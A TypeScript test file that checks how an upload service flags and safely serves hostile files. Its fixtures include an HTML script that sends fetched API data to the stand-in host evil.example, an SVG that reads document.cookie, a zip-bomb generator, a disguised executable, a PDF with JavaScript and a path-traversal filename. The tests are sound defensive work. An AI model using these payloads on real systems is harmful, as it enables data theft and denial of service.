import zlib from "node:zlib";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { zipSync } from "fflate";
import type { Db } from "../db/index.ts";
import { ingestFile } from "./archive.service.ts";
import type { BlobStore } from "./blob-store.ts";
import { safeServeHeaders } from "./serve-headers.ts";
import { openTestArchive } from "../../test/archive.ts";

let db: Db;
let store: BlobStore;
let close: () => Promise<void>;

beforeAll(async () => {
  ({ db, store, close } = await openTestArchive());
}, 120_000);
afterAll(async () => close());

/** A one-entry deflated zip, built with Node's native zlib (fast even for a large entry). */
function deflatedZip(name: string, content: Buffer): Buffer {
  const data = zlib.deflateRawSync(content, { level: 9 });
  const crc = zlib.crc32(content);
  const nameBuf = Buffer.from(name);
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4);
  local.writeUInt16LE(8, 8);
  local.writeUInt32LE(crc, 14);
  local.writeUInt32LE(data.length, 18);
  local.writeUInt32LE(content.length, 22);
  local.writeUInt16LE(nameBuf.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(20, 4);
  central.writeUInt16LE(20, 6);
  central.writeUInt16LE(8, 10);
  central.writeUInt32LE(crc, 16);
  central.writeUInt32LE(data.length, 20);
  central.writeUInt32LE(content.length, 24);
  central.writeUInt16LE(nameBuf.length, 28);
  const cdOffset = 30 + nameBuf.length + data.length;
  const eocd = Buffer.alloc(22);
  eocd.writeUInt32LE(0x06054b50, 0);
  eocd.writeUInt16LE(1, 8);
  eocd.writeUInt16LE(1, 10);
  eocd.writeUInt32LE(46 + nameBuf.length, 12);
  eocd.writeUInt32LE(cdOffset, 16);
  return Buffer.concat([local, nameBuf, data, central, nameBuf, eocd]);
}

const serve = (i: { id: string; mediaType: string; filename: string | null; hazards: string[] }) =>
  safeServeHeaders(i);

describe("hostile uploads", () => {
  it("keeps HTML with script as evidence but never serves it inline", async () => {
    const html = `<!DOCTYPE html><html><body><script>fetch("/api/claims").then(r=>r.text()).then(t=>navigator.sendBeacon("https://evil.example",t))</script></body></html>`;
    const item = await ingestFile(
      db,
      store,
      { bytes: Buffer.from(html) },
      { filename: "page.html", declaredType: "text/html" },
      "test:alice",
    );
    expect(item.mediaType).toBe("text/html");
    expect(item.hazards).toEqual(["active_content"]);
    const h = serve(item);
    expect(h["Content-Disposition"]).toMatch(/^attachment;/);
    expect(h["Content-Type"]).toBe("application/octet-stream");
    expect(h["X-Content-Type-Options"]).toBe("nosniff");
    expect(h["Content-Security-Policy"]).toMatch(/^sandbox;/);
    expect(h["Content-Security-Policy"]).toContain("default-src 'none'");
  });

  it("sees through an SVG with script that claims to be a PNG", async () => {
    const svg = `<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)"><script>alert(1)</script></svg>`;
    const item = await ingestFile(
      db,
      store,
      { bytes: Buffer.from(svg) },
      { filename: "avatar.png", declaredType: "image/png" },
      "test:alice",
    );
    expect(item.mediaType).toBe("image/svg+xml");
    expect(item.hazards).toEqual(["active_content", "type_mismatch"]);
    expect(item.declaredType).toBe("image/png");
    expect(serve(item)["Content-Disposition"]).toMatch(/^attachment;/);
  });

  it("flags a zip bomb from its directory without decompressing it", async () => {
    const bomb = deflatedZip("zeros.bin", Buffer.alloc(160 * 1024 * 1024));
    expect(bomb.length).toBeLessThan(1024 * 1024);
    const before = process.memoryUsage().rss;
    const item = await ingestFile(db, store, { bytes: bomb }, { filename: "documents.zip" }, "test:alice");
    expect(item.mediaType).toBe("application/zip");
    expect(item.hazards).toContain("compression_bomb");
    expect(item.metadata).toMatchObject({ intake: { zip: { entries: 1, uncompressed: 160 * 1024 * 1024 } } });
    expect(process.memoryUsage().rss - before).toBeLessThan(100 * 1024 * 1024);
    expect(serve(item)["Content-Disposition"]).toMatch(/^attachment;/);
  });

  it("does not flag an ordinary zip", async () => {
    const zip = Buffer.from(
      zipSync({
        "a.txt": new TextEncoder().encode("hello ".repeat(100)),
        "b/c.txt": new TextEncoder().encode("x"),
      }),
    );
    const item = await ingestFile(db, store, { bytes: zip }, { filename: "ok.zip" }, "test:alice");
    expect(item.hazards).toEqual([]);
  });

  it("sees a Windows program named photo.jpg for what it is", async () => {
    const exe = Buffer.concat([Buffer.from("MZ"), Buffer.alloc(200, 0x90)]);
    const item = await ingestFile(
      db,
      store,
      { bytes: exe },
      { filename: "photo.jpg", declaredType: "image/jpeg" },
      "test:alice",
    );
    expect(item.mediaType).toBe("application/x-msdownload");
    expect(item.hazards).toEqual(["executable", "type_mismatch"]);
    expect(serve(item)["Content-Type"]).toBe("application/octet-stream");
  });

  it("flags a PDF that carries JavaScript", async () => {
    const pdf = Buffer.from(
      "%PDF-1.4\n1 0 obj << /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj\n%%EOF\n",
    );
    const item = await ingestFile(db, store, { bytes: pdf }, { filename: "r.pdf" }, "test:alice");
    expect(item.hazards).toEqual(["pdf_active_content"]);
  });

  it("serves a plain PNG inline, still sandboxed and nosniff", async () => {
    const png = Buffer.from(
      "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==",
      "base64",
    );
    const item = await ingestFile(
      db,
      store,
      { bytes: png },
      { filename: "../../etc/p\u0000ng.png" },
      "test:alice",
    );
    expect(item.filename).toBe("png.png");
    const h = serve(item);
    expect(h["Content-Disposition"]).toMatch(/^inline;/);
    expect(h["Content-Type"]).toBe("image/png");
    expect(h["X-Content-Type-Options"]).toBe("nosniff");
  });
});
